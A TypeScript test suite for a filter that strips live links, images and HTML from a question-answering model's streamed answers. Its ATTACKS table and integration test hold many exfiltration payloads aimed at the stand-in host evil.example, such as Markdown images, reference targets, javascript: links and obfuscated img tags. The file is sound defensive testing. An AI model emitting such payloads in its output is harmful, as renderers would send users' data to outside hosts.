import { expect } from 'chai';
import fc from 'fast-check';
import { createCitationFilter } from '../../../src/answering/say/citation-filter.ts';
import { createLinkFilter } from '../../../src/answering/say/link-filter.ts';
import { type Generative, QUESTION, startGenerative } from '../../support/generative.ts';
import { ask, askStream, upload } from '../../support/library.ts';

const PASSAGES = [{ text: 'The war, see https://war.example/a?b=c for more.' }, { text: 'www.bread.example' }];

/** What is shown of a model's text that comes in these pieces. */
function shownOf(pieces: readonly string[]): string {
  const [marks, links] = [createCitationFilter(PASSAGES), createLinkFilter(PASSAGES)];
  const shown = pieces.map((piece) => links.push(marks.push(piece)));
  return shown.join('') + links.push(marks.end()) + links.end();
}

/** What a renderer of Markdown or HTML could load, send or link to. */
const LIVE = /!\[(?!\d+\])|<[a-z/!?]|\]\(|^\s*\[[^[\]]*\]:|(?:https?|ftp):\/\/|www\./im;

const ATTACKS: Record<string, string> = {
  'an image': 'It began ![x](https://evil.example/?d=secret) in 1754 [1].',
  'an image of a relative target': 'It began ![x](//evil.example/?d=secret) in 1754 [1].',
  'an image of another place of this service': '![x](/api/v1/documents/doc_1/file) [1].',
  'a link': 'See [here](https://evil.example/?d=secret "title") [1].',
  'a link in two parentheses': 'See [here](x)(https://evil.example) [1].',
  'a link with parentheses in it': 'See [here](//evil.example/(a)?d=secret) [1].',
  'a link of another scheme': 'See [here](javascript:alert(1)) and [there](data:text/html,x) [1].',
  'a link on a citation': 'It began in 1754 [1](//evil.example/?d=secret).',
  'a link behind a removed citation': 'See [here][99](//evil.example/?d=secret) [1].',
  'a link behind a removed citation of other brackets': 'See [here]【99】(//evil.example/?d=secret) [1].',
  'a link behind a citation of other brackets': 'See [here]【1】(//evil.example/?d=secret).',
  'a target given elsewhere': 'See [here][ref] [1].\n\n[ref]: //evil.example/?d=secret',
  'an image whose target is given elsewhere': '![x][ref] [1].\n\n> [ref]: //evil.example/?d=secret',
  'a target given elsewhere by a name of two lines': 'See [a\nb] [1].\n\n1. [a\nb]: //evil.example/?d=secret',
  'a target given elsewhere by a name with brackets': 'See [a\\]b] [1].\n\n[a\\]b]: //evil.example/?d=secret',
  'an autolink': 'See <https://evil.example/?d=secret> [1].',
  'a bare URL': 'See https://evil.example/?d=secret [1].',
  'a bare URL without a scheme': 'See www.evil.example/?d=secret [1].',
  'a bare URL of another scheme': 'See ftp://evil.example/?d=secret [1].',
  HTML: 'It <img src="//evil.example/?d=secret"> began [1].',
  'HTML with a bracket in an attribute': 'It <img alt="<" src="//evil.example/?d=secret"> began [1].',
  'HTML in HTML': 'It <<b>img src="//evil.example/?d=secret"> began [1].',
  'HTML behind a removed citation': 'It <[99]img src="//evil.example/?d=secret"> began [1].',
  'HTML that is never closed': 'It began [1] <img src="//evil.example/?d=secret" ',
  'a comment': 'It <!-- <img src=//evil.example> --> began [1].',
  'a URL that HTML cuts': 'It ht<b>tps://evil.example and www<b>.evil.example began [1].',
};

describe('link filter', () => {
  for (const [what, text] of Object.entries(ATTACKS))
    it(`leaves nothing live of ${what}, in one piece or letter by letter`, () => {
      for (const pieces of [[text], [...text]]) {
        const shown = shownOf(pieces);

        expect(shown).not.to.match(LIVE);
        expect(shown).to.match(/\[1\]/);
      }
    });

  it('keeps the text of a link, and says where a bare URL was', () => {
    expect(shownOf(['See [the text](https://evil.example) [1].'])).to.equal('See [the text] [1].');
    expect(shownOf(['See https://evil.example/?d=x, now [1].'])).to.equal('See (link removed), now [1].');
  });

  it('keeps a target that stands in a cited passage, wherever it is cited', () => {
    for (const text of [
      'See https://war.example/a?b=c [1].',
      'It began [1]. See [here](https://war.example/a?b=c).',
      'See [here](https://war.example/a?b=c) and so on [1].',
      'Bread: www.bread.example [2].',
      'See `https://war.example/a?b=c`, "https://war.example/a?b=c". And [https://war.example/a?b=c](https://war.example/a?b=c) [1].',
    ])
      for (const pieces of [[text], [...text]]) expect(shownOf(pieces)).to.equal(text);
    expect(shownOf(['See <https://war.example/a?b=c> [1].'])).to.equal('See https://war.example/a?b=c [1].');
  });

  it('removes a target that stands in a passage which is not cited, or goes on where the passage does not', () => {
    expect(shownOf(['See https://war.example/a?b=c [2].'])).to.equal('See (link removed) [2].');
    expect(shownOf(['See https://war.example/a?b=c&d=secret [1].'])).to.equal('See (link removed) [1].');
  });

  it('keeps a bare URL apart from what renderers would take for more of it', () => {
    for (const [text, shown] of [
      ['See https://war.example/a?b=c[secret [1].', 'See https://war.example/a?b=c [secret [1].'],
      ['See https://war.example/a?b=c.`secret [1].', 'See https://war.example/a?b=c. `secret [1].'],
      ['See "https://war.example/a?b=c"/secret [1].', 'See "https://war.example/a?b=c "/secret [1].'],
      ['See https://war.example/a?b=c[1]/secret.', 'See https://war.example/a?b=c [1]/secret.'],
    ] as const)
      for (const pieces of [[text], [...text]]) expect(shownOf(pieces)).to.equal(shown);
  });

  it('leaves all other text as it is', () => {
    for (const text of [
      'If a < b and b > c, then [sic] (so) "x" — 3:1 [1]!',
      'Wow! [1] 5 < 6, a/b, e.g. http: and «é» [2].',
      '他说：战争始于1754年[1]。',
      'A list:\n- one [1]\n- two: [2]',
    ])
      for (const pieces of [[text], [...text]]) expect(shownOf(pieces)).to.equal(text);
  });

  it('adds nothing to the target of an autolink, and makes no tag of it', () => {
    const link = '<https://war.example/a?b=c>';

    for (const [text, shown] of [
      [`See <${link} onclick=x [1] >`, 'See < https://war.example/a?b=c onclick=x [1] >'],
      [`See ${link}/?d=secret [1]`, 'See https://war.example/a?b=c /?d=secret [1]'],
      [`See ${link}[1].`, 'See https://war.example/a?b=c [1].'],
    ] as const)
      for (const pieces of [[text], [...text]]) expect(shownOf(pieces)).to.equal(shown);
  });

  it('shows the same, whatever pieces the text comes in, and never anything live', () => {
    const part = fc.constantFrom(
      ...[
        '[1]',
        '[99]',
        '【2】',
        '[a]',
        '![',
        '](',
        ')',
        '(',
        '<',
        '>',
        '<b>',
        '<!--',
        '-->',
        'https://',
        'www.',
        '//evil',
      ],
      ...['https://war.example/a?b=c', 'x', ' ', '\n', ']:', '[r]: ', '"', '.', 'é', '!', '\\', '[', ']', ':'],
    );
    const texts = fc.array(part, { maxLength: 40, size: 'max' }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(texts, fc.array(fc.nat(200), { maxLength: 12 }), (whole, cuts) => {
        const at = [0, ...cuts.map((cut) => Math.min(cut, whole.length)).sort((a, b) => a - b), whole.length];
        const pieces = at.slice(1).map((end, i) => whole.slice(at[i], end));
        const shown = shownOf([whole]);

        expect(shownOf(pieces)).to.equal(shown);
        expect(shownOf([...whole])).to.equal(shown);
        expect(shown.replaceAll('https://war.example/a?b=c', 'x').replaceAll(/\]\(x\)/g, ']')).not.to.match(LIVE);
      }),
      { numRuns: 2000 },
    );
  });

  it('takes no longer than the text is long, whatever it is made of', () => {
    for (const piece of [' ', '<', '<a ', '[', '](', '![', 'www.', 'a', 'a://', 'https://war.example/a?b=c '])
      expect(shownOf([piece.repeat(20_000)]).length).to.be.at.most(1_000_000);
  });
});

describe('an answer that carries a link', () => {
  let docent: Generative;
  before(async () => {
    docent = await startGenerative();
    await upload(docent.service, 'more.txt', 'More of the French and Indian War is at https://war.example/more.');
  });
  after(() => docent[Symbol.asyncDispose]());

  it('reaches the caller without it, whole and streamed', async () => {
    docent.does({ text: ['It began ![', 'x](https://ev', 'il.example/?d=sec', 'ret) in 1754', ' [1].'] });

    const whole = await ask(docent.service, QUESTION);
    const streamed = await askStream(docent.service, QUESTION);

    expect(whole.answer).to.equal('It began [x] in 1754 [1].');
    expect(JSON.stringify([whole, streamed.events])).not.to.contain('evil');
    expect(streamed.text).to.equal(whole.answer);
  });

  it('keeps one that a cited passage holds', async () => {
    docent.does({ text: 'Read https://war.example/more [1][2].' });

    expect((await ask(docent.service, QUESTION)).answer).to.equal('Read https://war.example/more [1][2].');
  });
});
